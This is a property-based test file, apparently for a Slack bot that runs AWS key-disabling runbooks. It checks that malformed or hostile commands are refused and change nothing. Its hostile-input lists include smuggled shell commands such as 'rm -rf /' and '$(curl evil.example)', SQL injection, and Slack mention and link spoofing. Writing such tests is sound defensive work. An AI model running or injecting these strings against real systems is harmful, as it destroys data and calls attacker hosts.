/**
 * Bad input — malformed key ids, hostile argument strings, 10 kB arguments — gets a clear ephemeral
 * message in the acknowledgement and changes nothing: no run, no AWS call, no message in the channel.
 * Property-based with fast-check through the real signed-request surface.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { InputInvalidError, NotAllowedError } from '../../src/errors.ts';
import { parseRunbookInput } from '../../src/runbooks/define-runbook.ts';
import { parseCommandText } from '../../src/runbooks/engine/command-grammar.ts';
import { findRunbook } from '../../src/runbooks/registry.ts';
import { accountConfig, randomAccountId } from '../support/aws-fixtures.ts';
import { INCIDENT, startTestQuell, type TestQuell } from '../support/test-quell.ts';

const KEY_ID = /^(AKIA|ASIA)[A-Z2-7]{16}$/;

describe('hostile input', () => {
  let t: TestQuell;
  beforeAll(async () => {
    t = await startTestQuell({
      accounts: [accountConfig('prod', randomAccountId()), accountConfig('dev', randomAccountId())],
    });
  });
  afterAll(async () => {
    await t?.close();
  });

  async function assertNothingHappened() {
    await t.settle();
    expect(await t.quell.store.listRuns({ limit: 5 })).toHaveLength(0);
    const audit = await t.quell.store.listAudit();
    expect(audit.filter((e) => e.type.startsWith('aws.'))).toHaveLength(0);
    expect(audit.filter((e) => e.type === 'command.received')).toHaveLength(0);
    expect(t.slack.callsOf('chat.postMessage').filter((c) => c.body.channel === INCIDENT)).toHaveLength(0);
  }

  it('answers known hostile strings with a clear message and changes nothing', async () => {
    const hostile = [
      'disable-key AKIA123',
      'disable-key akiaiosfodnn7example',
      'disable-key AKIAIOSFODNN7EXAMPL1', // 1 is not base32
      'disable-key AKIAIOSFODNN7EXAMPLEX',
      'disable-key AKIAIOSFODNN7EXAMPLE account=prod; rm -rf /',
      'disable-key AKIAIOSFODNN7EXAMPLE account="prod; rm -rf /"',
      'disable-key AKIAIOSFODNN7EXAMPLE account=nope',
      'disable-key AKIAIOSFODNN7EXAMPLE AKIAIOSFODNN7EXAMPLE',
      'disable-key AKIAIOSFODNN7EXAMPLE reason="unterminated',
      'disable-key AKIAIOSFODNN7EXAMPLE account=prod account=dev',
      'disable-key AKIAIOSFODNN7EXAMPLE sneaky=1',
      `disable-key AKIAIOSFODNN7EXAMPLE reason="${'x'.repeat(10_000)}"`,
      'disable-key <!channel> <@U0LEAD1> <https://evil.example|click>',
      'disable-key $(curl evil.example)',
      'disable-key AKIAIOSFODNN7EXAMPLE\u202eelgnis',
      'isolate-everything now',
      'DROP TABLE runs;',
    ];
    for (const text of hostile) {
      const res = await t.command(text, 'U0RESP');
      expect(res.status, text.slice(0, 60)).toBe(200);
      const reply = String(res.json?.text);
      expect(reply, text.slice(0, 60)).toMatch(/did not run|not a runbook|:warning:/);
      expect(res.json?.response_type).toBe('ephemeral');
      // Untrusted text never comes back as a live mention or link.
      expect(reply).not.toMatch(/<!channel>|<@U0LEAD1>|<https?:/);
    }
    const unknown = await t.command('disable-kye AKIAIOSFODNN7EXAMPLE', 'U0RESP');
    expect(String(unknown.json?.text)).toContain('Did you mean `disable-key`');
    const badKey = await t.command('disable-key AKIA123', 'U0RESP');
    expect(String(badKey.json?.text)).toContain('AKIA or ASIA followed by 16 characters');
    expect(String(badKey.json?.text)).toContain('Usage: `/quell disable-key AKIAXXXXXXXXXXXXXXXX');
    await assertNothingHappened();
  });

  it('property: any argument string after disable-key is parsed or refused, never run unless it is a key id', async () => {
    let attempts = 0;
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ maxLength: 80 }),
          fc.stringMatching(/^[A-Z0-9]{16,24}$/),
          fc.constantFrom('prod; rm -rf /', '`id`', '"', '=', 'account='),
        ),
        async (arg) => {
          attempts++;
          const res = await t.command(`disable-key ${arg} account=dev`, 'U0FUZZ');
          expect(res.status).toBe(200);
          if (
            !String(res.json?.text).includes('did not run') &&
            !String(res.json?.text).includes(':warning:')
          )
            accepted++;
        },
      ),
      { numRuns: 60 },
    );
    expect(attempts).toBe(60);
    // Only a syntactically valid key id can be accepted for planning; none of these are.
    expect(accepted).toBe(0);
    await assertNothingHappened();
  });

  it('property: the grammar and schema accept only well-formed key ids, and fail only with InputInvalidError', () => {
    const runbook = findRunbook('disable-key');
    if (!runbook) throw new Error('disable-key missing');
    // A third of the inputs are valid commands built here (a key id, perhaps an account and a reason),
    // a third are near misses (a character outside base32, one too few or too many, a wrong prefix),
    // and a third arbitrary text: so the accepting branch runs hundreds of times, not almost never.
    const base32 = (n: number) => fc.stringMatching(new RegExp(`^[A-Z2-7]{${n}}$`));
    const valid = fc
      .tuple(
        fc.constantFrom('AKIA', 'ASIA'),
        base32(16),
        fc.constantFrom('', ' account=prod', ' account=dev'),
        // A reason is 3 to 500 characters.
        fc.option(fc.stringMatching(/^[a-z0-9][a-z0-9 ,.-]{1,38}[a-z0-9]$/), { nil: undefined }),
      )
      .map(([prefix, rest, account, reason]) => ({
        text: `${prefix}${rest}${account}${reason === undefined ? '' : ` reason="${reason}"`}`,
        kind: 'valid' as const,
        keyId: `${prefix}${rest}`,
      }));
    const nearMiss = fc
      .oneof(
        fc
          .tuple(base32(7), fc.constantFrom('0', '1', '8', '9', 'a'), base32(8))
          .map((p) => `AKIA${p.join('')}`),
        base32(15).map((r) => `AKIA${r}`),
        base32(17).map((r) => `ASIA${r}`),
        base32(16).map((r) => `AKIB${r}`),
      )
      .map((text) => ({ text, kind: 'near-miss' as const, keyId: undefined }));
    const arbitrary = fc
      .string({ maxLength: 200 })
      .map((text) => ({ text, kind: 'arbitrary' as const, keyId: undefined }));
    const tally = { valid: 0, validAccepted: 0, nearMiss: 0, nearMissAccepted: 0, accepted: 0 };
    fc.assert(
      fc.property(fc.oneof(valid, nearMiss, arbitrary), ({ text, kind, keyId }) => {
        if (kind === 'valid') tally.valid++;
        if (kind === 'near-miss') tally.nearMiss++;
        try {
          const parsed = parseCommandText(`disable-key ${text}`);
          const input = parseRunbookInput<{ keyId: string; account?: string; reason?: string }>(
            runbook,
            parsed.args,
          );
          tally.accepted++;
          if (kind === 'valid') tally.validAccepted++;
          if (kind === 'near-miss') tally.nearMissAccepted++;
          expect(input.keyId).toMatch(KEY_ID);
          if (keyId !== undefined) expect(input.keyId).toBe(keyId);
        } catch (error) {
          expect(error instanceof InputInvalidError || error instanceof NotAllowedError).toBe(true);
        }
      }),
      { numRuns: 2000 },
    );
    // Every valid command was accepted and every near miss refused; and valid ones were a real share of
    // the run (about 667 expected; 400 is more than ten standard deviations below).
    expect(tally.valid).toBeGreaterThan(400);
    expect(tally.validAccepted).toBe(tally.valid);
    expect(tally.nearMiss).toBeGreaterThan(400);
    expect(tally.nearMissAccepted).toBe(0);
    expect(tally.accepted).toBeGreaterThanOrEqual(tally.valid);
  });

  it('property: key-age accepts only an account alias and whole-day limits, failing only with InputInvalidError', () => {
    const runbook = findRunbook('key-age');
    if (!runbook) throw new Error('key-age missing');
    let accepted = 0;
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 60 }),
          fc.constantFrom('90', '0', '-1', '1e3', '99999999', 'prod; rm -rf /', '9'.repeat(10_000)),
        ),
        fc.constantFrom('max-age', 'max-unused', 'account', 'region', 'sneaky'),
        (value, key) => {
          try {
            const parsed = parseCommandText(`key-age ${key}="${value.replace(/["\\]/g, '')}"`);
            const input = parseRunbookInput<{
              account?: string;
              maxKeyAgeDays: number;
              maxUnusedDays: number;
            }>(runbook, parsed.args);
            accepted++;
            expect(Number.isInteger(input.maxKeyAgeDays) && input.maxKeyAgeDays > 0).toBe(true);
            expect(Number.isInteger(input.maxUnusedDays) && input.maxUnusedDays > 0).toBe(true);
            if (input.account !== undefined) expect(input.account).toMatch(/^[a-z][a-z0-9-]{0,31}$/);
          } catch (error) {
            expect(error).toBeInstanceOf(InputInvalidError);
          }
        },
      ),
      { numRuns: 1000 },
    );
    expect(accepted).toBeLessThan(1000);
  });
});
